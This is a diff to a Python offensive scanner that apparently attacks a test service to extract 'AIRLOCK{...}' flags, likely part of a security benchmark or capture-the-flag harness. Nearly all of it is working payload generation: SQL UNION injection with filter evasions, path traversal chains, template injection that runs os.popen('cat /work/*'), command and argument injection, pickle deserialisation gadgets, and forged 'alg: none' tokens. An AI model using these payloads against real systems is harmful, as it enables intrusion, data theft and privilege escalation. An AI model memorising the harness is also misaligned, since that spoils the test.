@@ -8,13 +8,16 @@ make, the time it may take). Like an automated DAST scanner it then, for every r
 1. learns the service's shape: which routes answer without a session, logs in with the credentials it was
    given, picks up an anti-forgery token from any route that hands out a bare token, and finds the
    parameter encoding the service accepts (plain, hex, base64, URL-safe base64) from its error replies;
+   each route is attacked through the parameters its handler reads (as an API description lists them);
 2. sends its payload library for the injection classes that can make the proof: SQL injection
-   (UNION-based, schema first, then every text column), path traversal (absolute paths, ``../`` chains,
-   strip-once doubling, reading the service's own source for file names), server-side template
-   injection (engine detection by arithmetic, then object dumps), OS command injection (separators,
-   substitutions, ``${IFS}``, redirections), insecure deserialisation (pickle gadgets), and signature
-   stripping on JSON claims; each with the usual filter evasions (comment spaces, mixed case, quote
-   closing without comments, unicode escapes);
+   (UNION-based after a string, a number or a parenthesis; schema first, then every text column), path
+   traversal (absolute paths, ``../`` chains, strip-once doubling, reading the service's own source for file
+   names), server-side template injection (engine detection by arithmetic, then object dumps; format-string
+   and mapping placeholders with the names the source uses), OS command injection (separators,
+   substitutions, ``${IFS}``, redirections, options that name an output file), insecure deserialisation
+   (pickle gadgets in base64, hex, compressed, or a JSON field), and signature stripping on JSON claims,
+   ``alg: none`` tokens and separated tokens with an empty signature; each with the usual filter evasions
+   (comment spaces, mixed case, quote closing without comments, unicode escapes);
 3. reports any secret (``AIRLOCK{...}``) that ordinary pages did not already show.
 
 Blind proofs (a file created, a privileged action) cannot be seen from here: their payloads are simply all
@@ -31,6 +34,7 @@ import time
 import urllib.error
 import urllib.parse
 import urllib.request
+import zlib
 from collections.abc import Callable, Iterator
 from typing import Any
 
@@ -122,12 +126,13 @@ def mixed_case(text: str) -> str:
 
 def sql_variants(select: str) -> Iterator[str]:
     """``select`` (a SELECT) injected after a closed string, every usual way to end it, with evasions."""
-    for opening in ("zzz'", "zzz", 'zzz"'):
-        quote = opening[3:]
+    for opening in ("zzz'", "0", "zzz", 'zzz"', "zzz')", "0)"):
+        quote = opening.strip("z0)")
         endings = [" -- "]
         if quote:  # without a comment: close the query's own string with one of ours
             q = quote
-            endings += [" WHERE " + q + "a" + q + " LIKE " + q, " WHERE " + q + "1" + q + "=" + q + "1"]
+            paren = "(" if opening.endswith(")") else ""
+            endings += [" WHERE " + paren + q + "a" + q + " LIKE " + q, " WHERE " + paren + q + "1" + q + "=" + q + "1"]
         for ending in endings:
             statement = opening + " UNION SELECT " + select + ending
             yield statement
@@ -149,12 +154,16 @@ COMMON_DIRECTORIES = ("docs", "static", "files", "public", "assets", "images", "
 """A content-discovery word list: a relative path that must not start with a dot goes through one of these."""
 
 
-def traversal_paths(name: str) -> Iterator[str]:
-    yield "/work/" + name
-    yield name
-    for climb in ("../", "....//"):
-        for depth in range(1, 8):
-            yield climb * depth + name
+def traversal_paths(name: str, thorough: bool) -> Iterator[str]:
+    """Ways to reach the service's own file ``name`` from a document directory somewhere below it: the usual
+    ones, or (``thorough``) through the directories of a content-discovery word list."""
+    if not thorough:
+        yield "/work/" + name
+        yield name
+        for climb in ("../", "....//"):
+            for depth in range(1, 8):
+                yield climb * depth + name
+        return
     for directory in COMMON_DIRECTORIES:
         for climb in ("../", "....//"):
             for depth in range(2, 8):
@@ -178,6 +187,14 @@ TEMPLATE_DUMPS = (
     "globals()",
     "__import__('os').popen('cat /work/*').read()",
 )
+
+
+def option_payloads(path: str) -> Iterator[str]:
+    """Argument injection: a value passed to a tool as an option that names an output file."""
+    yield "-o" + path
+    yield "--output=" + path
+    yield "-o" + " " + path
+    yield "-ro" + path
 
 
 def command_payloads(path: str) -> Iterator[str]:
@@ -230,9 +247,25 @@ def pickle_payloads(path: str) -> Iterator[str]:
         for protocol in (0, 2, 4):
             data = pickle.dumps(gadget, protocol=protocol)
             yield base64.b64encode(data).decode()
+            yield base64.urlsafe_b64encode(data).decode().rstrip("=")
+            yield data.hex()
+            yield base64.b64encode(zlib.compress(data)).decode()
+            for key in CONFIG["parameters"]:  # a JSON document with the pickle in one of its fields
+                yield json.dumps({key: base64.b64encode(data).decode()})
+
+
+def b64url(text: str) -> str:
+    return base64.urlsafe_b64encode(text.encode()).decode().rstrip("=")
 
 
 def claim_payloads() -> Iterator[str]:
+    for separator in (":", "|", ";", ","):  # user, role, signature: an empty signature
+        for user in ("admin", "root"):
+            yield user + separator + "admin" + separator
+            yield user + separator + "ADMIN" + separator
+    for alg in ("none", "None", "NONE", "nOnE"):  # unsigned tokens
+        for payload in ('{"user": "admin", "role": "admin"}', '{"user": "admin", "role": "\\u0061dmin"}'):
+            yield b64url(json.dumps({"alg": alg, "typ": "JWT"})) + "." + b64url(payload) + "."
     for user in ("admin", "administrator", "root"):
         for signature in (None, "", "0", "none"):
             claims: dict[str, str] = {"user": user, "role": "admin"}
@@ -284,86 +317,144 @@ def surfaces(client: Client) -> Iterator[tuple[str, str, dict[str, str], list[En
                 base = {field: text.strip() for field in token_fields}
                 token_used = set(token_fields)
     skip_parameters = login_fields | token_used
+    missing = client.send("/airlock-scanner-no-such-page", {})
     for route in routes:
         if route in login_routes or route in token_routes:
             continue
-        for parameter in parameters:
+        for parameter in CONFIG.get("surfaces", {}).get(route, parameters):
             if parameter in skip_parameters:
                 continue
             accepted: list[Encoding] = []
+            answers = []
             for encode in ENCODINGS:
-                status, _ = client.send(route, {**base, parameter: encode("probe")})
+                status, text = client.send(route, {**base, parameter: encode("probe")})
+                answers.append((status, text))
                 if status not in (0, 400, 404, 405):
                     accepted.append(encode)
+            if plain in accepted:  # it takes plain text: the other encodings would only repeat each payload
+                accepted = [plain]
+            if not accepted and any(answer != missing and answer[0] in (400, 404) for answer in answers):
+                # The route is there and refused the probe itself (a document that does not exist, a value
+                # of the wrong shape): the parameter is taken as it is.
+                accepted.append(plain)
             if accepted:
                 yield route, parameter, base, accepted
 
 
 def attack(
-    client: Client, route: str, parameter: str, base: dict[str, str], encodings: list[Encoding], goal: str
+    client: Client,
+    route: str,
+    parameter: str,
+    base: dict[str, str],
+    encodings: list[Encoding],
+    goal: str,
+    phase: int,
 ) -> None:
+    """One phase of the attack on one surface: every surface gets the quickest checks before any gets the
+    larger libraries (phases 0 to 2)."""
+
     def send(value: str) -> list[tuple[int, str]]:
         results = []
         for encode in encodings:
             results.append(client.send(route, {**base, parameter: encode(value)}))
         return results
 
-    if goal == "read_secret":
+    if goal == "read_secret" and phase == 0:
+        # A quote, or a word where a number belongs, breaks a query built from text: a server error.
         errors = send("zzz'") + send('zzz"')
-        if any(any(signature in text for signature in SQL_ERRORS) for _, text in errors):
+        if any(status >= 500 or any(signature in text for signature in SQL_ERRORS) for status, text in errors):
             sql_injection(send)
+    elif goal == "read_secret" and phase == 1:
+        traversal(send, CONFIG["files"], thorough=False)
         if FOUND:
             return
-        for name in ["app.py", *CONFIG["files"]]:
-            for path in traversal_paths(name):
-                for _, text in send(path):
-                    for mentioned in re.findall(r"[\"']([\w.-]+\.(?:txt|key|db|cfg|conf|ini|json|secret))[\"']", text):
-                        if mentioned not in CONFIG["files"]:
-                            CONFIG["files"].append(mentioned)
-                if FOUND:
-                    return
         for opening, closing, probe in template_probes():
             if any(ARITHMETIC_RESULT in text for _, text in send(probe)):
                 for dump in TEMPLATE_DUMPS:
                     send(opening + dump + closing)
                     if FOUND:
                         return
-    elif goal == "write_file":
+                for name in CONFIG["names"]:  # the objects the source puts in a template's context
+                    send(opening + "getattr(getattr(" + name + ", '__class__'), '__dict__')" + closing)
+                    send(opening + name + ".__dict__" + closing)
+                    if FOUND:
+                        return
+        # Format strings and mappings: a placeholder that dumps what the template is given.
+        for probe in ["%s", *(p for name in CONFIG["names"] for p in placeholders(name))]:
+            send(probe)
+            if FOUND:
+                return
+    elif goal == "read_secret":
+        traversal(send, CONFIG["sources"], thorough=False)
+        traversal(send, CONFIG["files"] + CONFIG["sources"], thorough=True)
+    elif goal == "write_file" and phase == 0:
+        for payload in option_payloads(CONFIG["path"]):
+            send(payload)
         for payload in command_payloads(CONFIG["path"]):
             send(payload)
+    elif goal == "write_file" and phase == 1:
         for payload in pickle_payloads(CONFIG["path"]):
             send(payload)
-    elif goal == "privileged_action":
+    elif goal == "privileged_action" and phase == 0:
         for payload in claim_payloads():
             send(payload)
 
 
+def traversal(send: Callable[[str], list[tuple[int, str]]], names: list[str], thorough: bool) -> None:
+    for name in list(names):
+        for path in traversal_paths(name, thorough):
+            for _, text in send(path):
+                for mentioned in re.findall(r"[\"']([\w.-]+\.(?:txt|key|db|cfg|conf|ini|json|secret))[\"']", text):
+                    if mentioned not in CONFIG["files"]:
+                        CONFIG["files"].append(mentioned)
+            if FOUND:
+                return
+
+
+def placeholders(name: str) -> Iterator[str]:
+    yield "{" + name + "}"
+    yield "{" + name + ".__dict__}"
+    yield "%(" + name + ")s"
+    yield "${" + name + "}"
+
+
+SENSITIVE = re.compile(r"secret|key|vault|credential|token|passw|private|material|payload|value", re.IGNORECASE)
+
+
 def sql_injection(send: Callable[[str], list[tuple[int, str]]]) -> None:
+    """The schema through the first statement shape that shows it, then each column of each table through the
+    same shape, the tables and columns whose names look sensitive first."""
     schema: list[tuple[str, str]] = []
-    for select in sql_selects("sql", " FROM sqlite_master"):
-        for statement in sql_variants(select):
+    shape = None
+    for number, select in enumerate(sql_selects("sql", " FROM sqlite_master")):
+        for variant, statement in enumerate(sql_variants(select)):
             for _, text in send(statement):
-                schema += re.findall(r"CREATE TABLE (\w+) \(([^)]*)\)", text)
+                schema += re.findall(r"CREATE TABLE (?:IF NOT EXISTS )?(\w+) \(([^)]*)\)", text)
             if schema:
+                shape = (number, variant)
                 break
         if schema:
             break
-    for table, columns in schema:
-        for column in (part.split()[0] for part in columns.split(",")):
-            for select in sql_selects(column, " FROM " + table):
-                for statement in sql_variants(select):
-                    send(statement)
-                    if FOUND:
-                        return
+    if shape is None:
+        return
+    columns = [(table, part.split()[0]) for table, listed in schema for part in listed.split(",") if part.split()]
+    columns.sort(key=lambda pair: not (SENSITIVE.search(pair[0]) or SENSITIVE.search(pair[1])))
+    for table, column in columns:
+        select = list(sql_selects(column, " FROM " + table))[shape[0]]
+        send(list(sql_variants(select))[shape[1]])
+        if FOUND:
+            return
 
 
 def main() -> None:
     client = Client(CONFIG["base"], CONFIG["seconds"])
     try:
-        for route, parameter, base, encodings in list(surfaces(client)):
-            attack(client, route, parameter, base, encodings, CONFIG["goal"])
-            if FOUND:
-                break
+        found = list(surfaces(client))
+        for phase in (0, 1, 2):
+            for route, parameter, base, encodings in found:
+                attack(client, route, parameter, base, encodings, CONFIG["goal"], phase)
+                if FOUND:
+                    break
     except Deadline:
         print("scan stopped: out of time", flush=True)
     print("findings:", ", ".join(FOUND) or "none")
